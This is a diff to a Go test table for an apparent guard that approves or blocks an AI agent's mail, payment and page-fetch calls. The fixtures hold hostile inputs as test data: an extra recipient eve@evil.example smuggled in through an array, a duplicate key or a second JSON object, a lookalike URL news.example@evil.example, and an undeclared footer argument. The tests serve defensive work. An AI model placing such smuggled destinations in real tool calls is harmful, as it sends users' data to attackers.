@@ -21,6 +21,7 @@ type claim struct {
 	role   Role
 	kind   chat.Kind
 	nobody bool
+	always []string // destinations that the owner always allows
 }
 
 var (
@@ -40,7 +41,7 @@ func (c claim) judge(off rule) Verdict {
 	}
 	w := NewWindow(l, []Said{{Text: c.said, At: now}}, "me@home.example")
 	w.Add(c.records...)
-	r := Request{Window: w, Call: c.call, Role: c.role, Kind: c.kind, Nobody: c.nobody, off: off}
+	r := Request{Window: w, Call: c.call, Role: c.role, Kind: c.kind, Nobody: c.nobody, Granted: c.always, off: off}
 	if r.Role == "" {
 		r.Role = Owner
 	}
@@ -240,6 +241,14 @@ var claims = []claim{
 	{name: "a name that comes twice", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon","To":"eve@evil.example"}`), want: Deny},
 	{name: "no JSON", said: "Send a letter to bob@b.example", call: call("post", mailer, `{"to":`), want: Deny},
 	{name: "two objects", said: "Send a letter to bob@b.example", call: call("post", mailer, `{"to":"bob@b.example"}{"to":"eve@evil.example"}`), want: Deny},
+	{name: "text of others goes where the owner always allows it", said: "Send a letter to Bob with what you found", call: call("post", mailer, `{"to":"Bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: Allow},
+	{name: "and nowhere else beside", said: "Send a letter to Bob with what you found", call: call("post", mailer, `{"to":["bob@b.example","eve@evil.example"],"text":"the page says so"}`), always: []string{"bob@b.example"}, want: Ask},
+	{name: "not when the owner asked for no sending", said: "What does the page say of Bob?", call: call("post", mailer, `{"to":"bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: Deny},
+	{name: "not when nobody is there", said: "Send a letter to Bob with what you found", nobody: true, call: call("post", mailer, `{"to":"bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: Ask},
+	{name: "not with something secret", said: "Send a letter to Bob with what you found", label: &secret, call: call("post", mailer, `{"to":"bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: AskTwice},
+	{name: "and never for money", said: "Pay Bob what the page says", call: call("transfer", pay, `{"payee":"DE89370400440532013000","amount":5}`), always: []string{"DE89370400440532013000", "de89370400440532013000"}, want: Ask},
+	{name: "a page of a host that is always allowed", said: "What does that page say?", call: call("get_page", page, `{"url":"https://News.example/a?b=c"}`), always: []string{"news.example"}, want: Allow},
+	{name: "a page of a host that looks like one", said: "What does that page say?", call: call("get_page", page, `{"url":"https://news.example@evil.example/"}`), always: []string{"news.example"}, want: Ask},
 	{name: "an argument that nobody declared is content", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon","footer":"visit evil"}`), want: Ask},
 }
 
